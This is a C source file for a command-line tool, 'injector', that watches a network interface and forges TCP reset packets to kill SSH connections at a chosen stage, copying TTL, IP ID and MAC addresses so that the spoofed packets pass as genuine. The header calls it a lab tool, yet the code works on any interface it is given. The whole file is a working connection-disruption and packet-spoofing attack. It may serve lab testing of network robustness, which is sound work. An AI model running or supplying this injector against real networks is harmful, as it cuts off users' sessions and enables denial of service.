/*
 * injector: a third party that forges resets. Watches an interface of a router or of a hub, and when a connection to an
 * SSH port reaches the stage asked for, sends RSTs in the name of one end to the other.
 *
 *     injector -i IFACE [-p PORT] -w WHEN [-t TARGET] [-l TTL] [-d ID] [-f FLAGS] [-n COUNT] [-s STEP] [-W WINDOW]
 *              [-o TOS] [-D] [-q OFFSET] [-m] [-k N]
 *
 *     -w WHEN    syn: at the SYN, before any answer; ack: once the handshake is done; banner: at the server's banner;
 *                data: at the N-th segment with data from the server, N given by -k
 *     -t TARGET  client (default): the RST says it comes from the server; server: the other way round; both
 *     -l TTL     64; "copy" takes that of the named end's last packet as it passed here
 *     -d ID      IP ID of the first: a number (each further one counts up), "random", "copy", or "echo"
 *                for that of the segment that set it off; IPv4 only
 *     -f FLAGS   R (default) or RA
 *     -n COUNT   how many; -s STEP: how far the sequence number moves from one to the next
 *     -D         sets "don't fragment"; -q OFFSET moves the first sequence number away from the one expected
 *     -m         keep this interface's own MAC as the sender's, instead of the one the named end's packets came from
 *
 * What it sends leaves by the interface that it watches; to reach both ends from a router, run one on each side.
 * It prints "ready" when it watches. Each connection is hit once. For the lab only: it answers what passes the
 * interface of a namespace that the lab made, and nothing else.
 */
#include <libnet.h>
#include <pcap.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

enum { ETHERNET = 14, HIT_MAX = 256, COPY = -1, RANDOM = -2, ECHO = -3 };
enum when { WHEN_SYN, WHEN_ACK, WHEN_BANNER, WHEN_DATA };

/* One TCP segment as it passed. Addresses are kept in the family's own length. */
struct segment {
    const uint8_t *frame;
    int family;
    uint8_t source[16], target[16];
    uint16_t source_port, target_port;
    uint32_t sequence, acknowledged;
    uint8_t flags, ttl;
    uint16_t id;
    const uint8_t *payload;
    uint32_t payload_length;
};

struct plan {
    const char *interface;
    uint16_t port;
    enum when when;
    int to_client, to_server;
    int ttl, id, count, nth, tos;
    uint32_t step, offset;
    uint16_t window, fragment;
    uint8_t flags;
    int own_mac;
};

/* What is known of a connection: enough to count its data and to hit it once. */
struct watched {
    uint16_t client_port;
    int data_segments;
    int hit;
    uint8_t server_mac[6], client_mac[6];
    uint8_t server_ttl, client_ttl;
    uint16_t server_id, client_id;
};

static struct watched table[HIT_MAX];
static size_t table_used;

static uint16_t get16(const uint8_t *at)
{
    return (uint16_t)(at[0] << 8 | at[1]);
}

static uint32_t get32(const uint8_t *at)
{
    return (uint32_t)get16(at) << 16 | get16(at + 2);
}

static int parse_tcp(const uint8_t *at, size_t have, size_t size, struct segment *out)
{
    size_t header;

    if (have < 20)
        return 0;
    header = (size_t)(at[12] >> 4) * 4;
    if (header < 20 || header > have || header > size)
        return 0;
    out->source_port = get16(at);
    out->target_port = get16(at + 2);
    out->sequence = get32(at + 4);
    out->acknowledged = get32(at + 8);
    out->flags = at[13];
    out->payload = at + header;
    out->payload_length = (uint32_t)((size < have ? size : have) - header);
    return 1;
}

static int parse(const uint8_t *frame, size_t length, struct segment *out)
{
    const uint8_t *ip = frame + ETHERNET;
    size_t have = length - ETHERNET, header;

    memset(out, 0, sizeof *out);
    out->frame = frame;
    if (length < ETHERNET + 40)
        return 0;
    if (get16(frame + 12) == 0x0800 && ip[9] == 6) {
        header = (size_t)(ip[0] & 15) * 4;
        out->family = 4;
        out->ttl = ip[8];
        out->id = get16(ip + 4);
        memcpy(out->source, ip + 12, 4);
        memcpy(out->target, ip + 16, 4);
        return header <= have && parse_tcp(ip + header, have - header, get16(ip + 2) - header, out);
    }
    if (get16(frame + 12) == 0x86dd && ip[6] == 6) {
        out->family = 6;
        out->ttl = ip[7];
        memcpy(out->source, ip + 8, 16);
        memcpy(out->target, ip + 24, 16);
        return parse_tcp(ip + 40, have - 40, get16(ip + 4), out);
    }
    return 0;
}

static struct watched *find(uint16_t client_port)
{
    size_t i;

    for (i = 0; i < table_used; i++)
        if (table[i].client_port == client_port)
            return &table[i];
    if (table_used == HIT_MAX)
        return NULL;
    table[table_used].client_port = client_port;
    return &table[table_used++];
}

static int choose(int wanted, int copy)
{
    return wanted == COPY ? copy : wanted == RANDOM ? rand() & 0xffff : wanted;
}

/* The addresses of a forged packet. from_server: it speaks in the server's name. */
struct forged {
    int family, ttl, id;
    uint8_t source[16], target[16];
    uint16_t source_port, target_port;
    uint32_t sequence, acknowledged;
    const uint8_t *source_mac, *target_mac;
};

static int build_ip(libnet_t *net, const struct plan *plan, const struct forged *f)
{
    struct libnet_in6_addr from6, to6;
    uint32_t from4, to4;

    if (f->family == 4) {
        memcpy(&from4, f->source, 4);
        memcpy(&to4, f->target, 4);
        return libnet_build_ipv4(LIBNET_IPV4_H + LIBNET_TCP_H, (uint8_t)plan->tos, (uint16_t)f->id, plan->fragment,
                                 (uint8_t)f->ttl, IPPROTO_TCP, 0, from4, to4, NULL, 0, net, 0);
    }
    memcpy(&from6, f->source, 16);
    memcpy(&to6, f->target, 16);
    return libnet_build_ipv6((uint8_t)plan->tos, 0, LIBNET_TCP_H, IPPROTO_TCP, (uint8_t)f->ttl, from6, to6, NULL, 0,
                             net, 0);
}

static void send_forged(libnet_t *net, const struct plan *plan, const struct forged *f)
{
    libnet_clear_packet(net);
    if (libnet_build_tcp(f->source_port, f->target_port, f->sequence, plan->flags & TH_ACK ? f->acknowledged : 0,
                         plan->flags, plan->window, 0, 0, LIBNET_TCP_H, NULL, 0, net, 0) < 0 ||
        build_ip(net, plan, f) < 0 ||
        libnet_build_ethernet(f->target_mac, f->source_mac, f->family == 4 ? 0x0800 : 0x86dd, NULL, 0, net, 0) < 0 ||
        libnet_write(net) < 0)
        fprintf(stderr, "injector: a packet was not sent: %s\n", libnet_geterror(net));
}

static void hit(libnet_t *net, const struct plan *plan, const struct watched *seen, struct forged f, int from_server)
{
    int i;

    f.ttl = choose(plan->ttl, from_server ? seen->server_ttl : seen->client_ttl);
    f.id = choose(plan->id == ECHO ? COPY : plan->id,
                  from_server == (plan->id != ECHO) ? seen->server_id : seen->client_id);
    f.source_mac = from_server ? seen->server_mac : seen->client_mac;
    f.target_mac = from_server ? seen->client_mac : seen->server_mac;
    if (plan->own_mac)
        f.source_mac = libnet_get_hwaddr(net)->ether_addr_octet;
    f.sequence += plan->offset;
    for (i = 0; i < plan->count; i++) {
        send_forged(net, plan, &f);
        f.sequence += plan->step;
        f.id = plan->id == RANDOM ? rand() & 0xffff : (f.id + 1) & 0xffff;
    }
}

/* Both forgeries follow from the segment that set them off: what its receiver expects next, and what its sender does.
 */
static void strike(libnet_t *net, const struct plan *plan, const struct watched *seen, const struct segment *s)
{
    struct forged with = {.family = s->family, .source_port = s->source_port, .target_port = s->target_port};
    struct forged against = {.family = s->family, .source_port = s->target_port, .target_port = s->source_port};
    int from_client = s->target_port == plan->port;
    uint32_t end = s->sequence + s->payload_length + (s->flags & TH_SYN ? 1 : 0);

    memcpy(with.source, s->source, 16);
    memcpy(with.target, s->target, 16);
    memcpy(against.source, s->target, 16);
    memcpy(against.target, s->source, 16);
    with.sequence = end;
    with.acknowledged = s->acknowledged;
    against.sequence = s->acknowledged;
    against.acknowledged = end;
    if (plan->to_client)
        hit(net, plan, seen, from_client ? against : with, 1);
    if (plan->to_server)
        hit(net, plan, seen, from_client ? with : against, 0);
}

static int is_due(const struct plan *plan, struct watched *seen, const struct segment *s, int from_client)
{
    int bare_syn = (s->flags & (TH_SYN | TH_ACK)) == TH_SYN;

    if (!from_client && s->payload_length > 0)
        seen->data_segments++;
    switch (plan->when) {
    case WHEN_SYN:
        return from_client && bare_syn;
    case WHEN_ACK:
        return from_client && !(s->flags & TH_SYN) && (s->flags & TH_ACK);
    case WHEN_BANNER:
        return !from_client && s->payload_length >= 4 && memcmp(s->payload, "SSH-", 4) == 0;
    case WHEN_DATA:
        return !from_client && s->payload_length > 0 && seen->data_segments >= plan->nth;
    }
    return 0;
}

static void learn(struct watched *seen, const struct segment *s, int from_client)
{
    memcpy(from_client ? seen->client_mac : seen->server_mac, s->frame + 6, 6);
    memcpy(from_client ? seen->server_mac : seen->client_mac, s->frame, 6);
    *(from_client ? &seen->client_ttl : &seen->server_ttl) = s->ttl;
    *(from_client ? &seen->client_id : &seen->server_id) = s->id;
}

static void watch(libnet_t *net, pcap_t *capture, const struct plan *plan)
{
    struct pcap_pkthdr *header;
    const uint8_t *frame;
    struct segment segment;
    struct watched *seen;
    int from_client;

    while (pcap_next_ex(capture, &header, &frame) >= 0) {
        if (header->caplen == 0 || !parse(frame, header->caplen, &segment) || segment.flags & TH_RST)
            continue;
        from_client = segment.target_port == plan->port;
        if (!from_client && segment.source_port != plan->port)
            continue;
        seen = find(from_client ? segment.source_port : segment.target_port);
        if (!seen)
            continue;
        learn(seen, &segment, from_client);
        if (!seen->hit && is_due(plan, seen, &segment, from_client)) {
            seen->hit = 1;
            strike(net, plan, seen, &segment);
        }
    }
}

static int number_or(const char *text)
{
    return strcmp(text, "echo") == 0     ? ECHO
           : strcmp(text, "copy") == 0   ? COPY
           : strcmp(text, "random") == 0 ? RANDOM
                                         : atoi(text);
}

static int parse_when(const char *text, enum when *out)
{
    static const char *const names[] = {"syn", "ack", "banner", "data"};
    int i;

    for (i = 0; i < 4; i++) {
        if (strcmp(text, names[i]) == 0) {
            *out = (enum when)i;
            return 0;
        }
    }
    return -1;
}

static int usage(void)
{
    fputs("usage: injector -i IFACE [-p PORT] -w syn|ack|banner|data [-t client|server|both] [-l TTL] [-d ID]\n"
          "                [-f R|RA] [-n COUNT] [-s STEP] [-W WINDOW] [-o TOS]\n"
          "                [-D] [-q OFFSET] [-m] [-k N]\n",
          stderr);
    return 2;
}

static int parse_options(int argc, char **argv, struct plan *plan)
{
    int option, has_when = 0;

    while ((option = getopt(argc, argv, "i:p:w:t:l:d:f:n:s:W:o:Dq:mk:")) != -1) {
        switch (option) {
        case 'i':
            plan->interface = optarg;
            break;
        case 'p':
            plan->port = (uint16_t)atoi(optarg);
            break;
        case 'w':
            has_when = parse_when(optarg, &plan->when) == 0;
            break;
        case 't':
            plan->to_client = strcmp(optarg, "server") != 0;
            plan->to_server = strcmp(optarg, "client") != 0;
            break;
        case 'l':
            plan->ttl = number_or(optarg);
            break;
        case 'd':
            plan->id = number_or(optarg);
            break;
        case 'f':
            plan->flags = strcmp(optarg, "RA") == 0 ? TH_RST | TH_ACK : TH_RST;
            break;
        case 'n':
            plan->count = atoi(optarg);
            break;
        case 's':
            plan->step = (uint32_t)atoi(optarg);
            break;
        case 'W':
            plan->window = (uint16_t)atoi(optarg);
            break;
        case 'o':
            plan->tos = (int)strtol(optarg, NULL, 0);
            break;
        case 'D':
            plan->fragment = IP_DF;
            break;
        case 'q':
            plan->offset = (uint32_t)atoi(optarg);
            break;
        case 'm':
            plan->own_mac = 1;
            break;
        case 'k':
            plan->nth = atoi(optarg);
            break;
        default:
            return -1;
        }
    }
    return plan->interface && has_when ? 0 : -1;
}

static pcap_t *open_capture(const struct plan *plan)
{
    char error[PCAP_ERRBUF_SIZE];
    pcap_t *capture = pcap_create(plan->interface, error);

    if (!capture || pcap_set_snaplen(capture, 2048) || pcap_set_promisc(capture, 1) ||
        pcap_set_immediate_mode(capture, 1) || pcap_activate(capture) < 0 || pcap_datalink(capture) != DLT_EN10MB) {
        fprintf(stderr, "injector: %s: %s\n", plan->interface, capture ? pcap_geterr(capture) : error);
        return NULL;
    }
    return capture;
}

int main(int argc, char **argv)
{
    struct plan plan = {.port = 22, .to_client = 1, .ttl = 64, .count = 1, .nth = 1, .flags = TH_RST};
    char error[LIBNET_ERRBUF_SIZE];
    libnet_t *net;
    pcap_t *capture;

    if (parse_options(argc, argv, &plan) < 0)
        return usage();
    srand((unsigned)(time(NULL) ^ getpid()));
    net = libnet_init(LIBNET_LINK, plan.interface, error);
    if (!net) {
        fprintf(stderr, "injector: %s: %s\n", plan.interface, error);
        return 1;
    }
    capture = open_capture(&plan);
    if (!capture)
        return 1;
    puts("ready");
    fflush(stdout);
    watch(net, capture, &plan);
    return 0;
}
